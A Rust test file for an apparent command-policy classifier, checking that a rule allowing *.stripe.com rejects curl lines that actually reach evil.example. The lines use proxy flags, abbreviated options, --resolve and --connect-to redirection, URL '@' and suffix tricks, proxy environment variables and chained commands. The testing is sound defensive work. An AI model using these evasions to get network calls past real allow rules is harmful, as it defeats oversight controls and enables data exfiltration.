//! Which hosts a line names: a rule that allows one must not reach another.

#![allow(clippy::unwrap_used, reason = "a failed step fails the test")]

use countersign_core::action::Action;
use countersign_policy::Place;
use countersign_policy::classify::classify;
use countersign_policy::pattern::HostPattern;
use serde_json::json;

/// Whether a rule that allows hosts below `stripe.com` would speak of the whole line.
fn within(line: &str) -> bool {
    let file = json!({"path": "/bin/bash", "sha256": "00".repeat(32)});
    let payload = json!({"kind": "command", "argv": ["bash", "-c", line], "cwd": "/w", "env": {},
        "program": file});
    let class = classify(&Action::from_payload(&payload).unwrap(), &Place::default());
    let pattern = HostPattern::new("*.stripe.com").unwrap();
    let hosts = &class.hosts.own;
    class.floors.is_empty() && !hosts.is_empty() && hosts.iter().all(|host| pattern.fits(host))
}

#[test]
fn attack_14_a_line_that_speaks_to_another_host_is_not_let_through_by_its_address() {
    for line in ["curl https://api.stripe.com/v1", "curl https://API.STRIPE.COM.:8443/"] {
        assert!(within(line), "{line}");
    }
    for line in [
        "curl https://api.stripe.com https://evil.example",
        "curl https://api.stripe.com.evil.example",
        "curl https://api.stripe.com@evil.example",
        "curl https://evil.example/api.stripe.com",
        "curl 'https://evil.example#.stripe.com'",
        "curl -x http://evil.example https://api.stripe.com",
        "curl -xevil.example https://api.stripe.com",
        "curl --proxy=http://evil.example https://api.stripe.com",
        "curl --prox http://evil.example https://api.stripe.com",
        "curl --socks5 evil.example https://api.stripe.com",
        "curl --socks5-h evil.example https://api.stripe.com",
        "curl --resolve api.stripe.com:443:6.6.6.6 https://api.stripe.com",
        "curl --connect-to ::evil.example: https://api.stripe.com",
        "curl --connect-t ::evil.example: https://api.stripe.com",
        "curl --doh-url https://evil.example https://api.stripe.com",
        "curl --unix-socket /tmp/s https://api.stripe.com",
        "https_proxy=http://evil.example curl https://api.stripe.com",
        "export https_proxy=http://evil.example; curl https://api.stripe.com",
        "ALL_PROXY=evil.example curl https://api.stripe.com",
        "curl https://api.stripe.com && curl https://evil.example",
    ] {
        assert!(!within(line), "{line}");
    }
}
